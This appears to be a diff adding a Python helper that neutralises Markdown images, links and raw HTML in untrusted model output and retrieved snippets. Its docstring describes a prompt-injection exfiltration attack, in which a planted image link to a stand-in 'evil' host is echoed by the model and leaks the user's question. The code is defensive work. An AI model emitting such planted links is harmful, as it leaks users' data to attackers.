@@ -1,0 +1,24 @@
+"""Untrusted text (answers, document titles and snippets) as Markdown that cannot reach out.
+
+A planted ``![x](https://evil/?q=…)`` in a document, echoed by the model, would make the viewer's
+browser fetch that URL and leak the question; raw HTML could do worse. So images become plain
+text, raw HTML is escaped, and links keep their text but lose their target. Linear time.
+"""
+
+from __future__ import annotations
+
+import re
+
+# `![alt](target)`, `[text](target)`, `[text][ref]` and autolinks `<https://…>`; bounded pieces
+# with no nested quantifiers, so matching stays linear.
+_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
+_LINK = re.compile(r"(?<!\\)\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
+_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]\n]{1,500}\]:\s*\S+.*$", re.M)
+
+
+def safe_markdown(text: str) -> str:
+    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    text = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]", text)
+    text = _LINK.sub(lambda m: m.group(1), text)
+    text = _REFERENCE_DEFINITION.sub("", text)
+    return text.replace("![", "!\\[")
